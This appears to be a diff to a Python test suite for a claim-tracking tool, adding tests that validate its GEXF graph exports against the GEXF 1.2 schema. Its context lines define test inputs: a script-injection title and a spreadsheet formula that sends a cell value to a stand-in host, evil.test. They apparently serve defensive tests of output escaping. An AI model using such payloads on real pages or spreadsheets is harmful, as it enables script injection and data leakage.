@@ -12,6 +12,7 @@ from typing import Any
 import networkx as nx
 import pytest
 from defusedxml import ElementTree
+from lxml import etree
 
 from tracker.domain.story import ClaimStory
 from tracker.errors import BadInput, NotFound
@@ -24,6 +25,8 @@ from .support.cli_run import run_cli
 
 HOSTILE_TITLE = "</script><script>alert(1)</script>"
 FORMULA_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
+GEXF_SCHEMA = Path(__file__).parent / "fixtures" / "gexf-1.2" / "gexf.xsd"
+GEXF_WRITTEN, GEXF_SCHEMA_NS = "http://www.gexf.net/1.2draft", "http://www.gexf.net/1.2"
 XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
 
 
@@ -158,6 +161,51 @@ def test_gexf_is_dynamic_so_gephi_replays_the_spread(story: ClaimStory, tmp_path
     values = [v.get("value") for v in spells]
     assert "asserts" in values and "disputes" in values and "noted" in values
     assert all(v.get("end") for v in spells)
+
+
+def in_schema_namespace(path: Path) -> Any:
+    """The written GEXF with its elements moved from the 1.2draft namespace (which networkx and
+    Gephi write) into the official 1.2 schema's; nothing else changes."""
+    # The file is our own output; lxml is needed for XML Schema (defusedxml has none).
+    root = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True))
+    for element in root.iter():
+        if isinstance(element.tag, str) and element.tag.startswith(f"{{{GEXF_WRITTEN}"):
+            element.tag = element.tag.replace(GEXF_WRITTEN, GEXF_SCHEMA_NS, 1)
+    return root
+
+
+@pytest.fixture(scope="module")
+def gexf_schema() -> Any:
+    return etree.XMLSchema(etree.parse(str(GEXF_SCHEMA)))
+
+
+@pytest.mark.parametrize("level", ["claim", "outlet"])
+def test_gexf_is_valid_against_the_gexf_1_2_schema_with_weights(
+    story: ClaimStory, tmp_path: Path, level: str, gexf_schema: Any
+) -> None:
+    graph = graphs(story)[level]
+    path = write_graph(graph, "gexf", Path("g.gexf"), root=tmp_path)
+    document = in_schema_namespace(path)
+    assert gexf_schema.validate(document), [str(e) for e in gexf_schema.error_log]
+    ns = {"g": GEXF_SCHEMA_NS}
+    if level == "claim":  # the dynamic attributes (spells over time) are part of what validated
+        assert document.findall("g:graph/g:attributes[@mode='dynamic']", ns)
+        assert document.findall("g:graph/g:nodes/g:node/g:attvalues/g:attvalue[@start]", ns)
+    weights = {
+        edge.get("id"): edge.get("weight")
+        for edge in document.iterfind("g:graph/g:edges/g:edge", ns)
+    }
+    assert len(weights) == graph.number_of_edges()
+    edges = graph.edges(keys=True, data=True) if level == "claim" else graph.edges(data=True)
+    for edge in edges:
+        data = edge[-1]
+        expected = data.get("score", data.get("count"))
+        written = weights[f"{edge[0]}->{edge[1]}" + (f":{edge[2]}" if level == "claim" else "")]
+        assert (written is None) if expected is None else float(written) == pytest.approx(expected)
+    assert any(w is not None for w in weights.values())
+    # The schema is strict where networkx is not: the attribute networkx used to add fails it.
+    document.find("g:graph", ns).set("name", "")
+    assert not gexf_schema.validate(document)
 
 
 # ---------------------------------------------------------------- rows of mentions
